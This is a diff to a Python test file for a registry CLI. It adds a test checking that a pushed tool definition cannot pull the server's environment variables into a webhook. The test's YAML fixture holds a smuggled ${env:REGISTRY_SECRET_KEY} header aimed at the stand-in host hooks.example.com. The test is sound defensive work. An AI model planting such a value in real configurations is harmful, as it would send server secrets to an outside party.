@@ -261,7 +261,7 @@ def test_tls_failure_and_timeout_are_clear_refusals(cli: Cli, server: ServerProc
 
 def test_plan_and_pull_need_a_token_that_sees_every_team(cli: Cli, api: httpx.Client, tmp_path: Path) -> None:
     """A bundle plan or export covers the whole catalog; another team's entries must stay unseen.
-    (Last in this module: it leaves a team's entry in the shared catalog.)"""
+    (It leaves a team's entry in the shared catalog: the tests after it use admin tokens only.)"""
     viewer = issue_token(api, "cac-global-viewer", ["viewer"])["token"]
     folder = tmp_path / "catalog"
     assert cli("pull", str(folder), token=viewer)[0] == 0  # no team owns an entry yet
@@ -310,3 +310,22 @@ def test_the_bundle_limits_bound_a_push(
     finally:
         live.stop()
         registry.close()
+
+
+def test_a_push_never_reads_the_servers_environment(cli: Cli, api: httpx.Client, tmp_path: Path) -> None:
+    """``${env:...}`` would let whoever pushes send any of the server's variables to a webhook of theirs."""
+    folder = tmp_path / "catalog"
+    tool = (
+        "name: leaky\n"
+        "webhook:\n"
+        "  url: https://hooks.example.com/leaky\n"
+        "  headers:\n"
+        "    Authorization: ${env:REGISTRY_SECRET_KEY}\n"
+    )
+    (folder / "tools").mkdir(parents=True)
+    (folder / "tools" / "leaky.yaml").write_text(tool, encoding="utf-8")
+    code, _out, err = cli("push", str(folder))
+    assert code == 1
+    assert "tools/leaky.yaml:5: webhook.headers.Authorization: " in err, err
+    assert "does not read the server's environment" in err
+    assert api.get("/api/v1/tools/leaky").status_code == 404
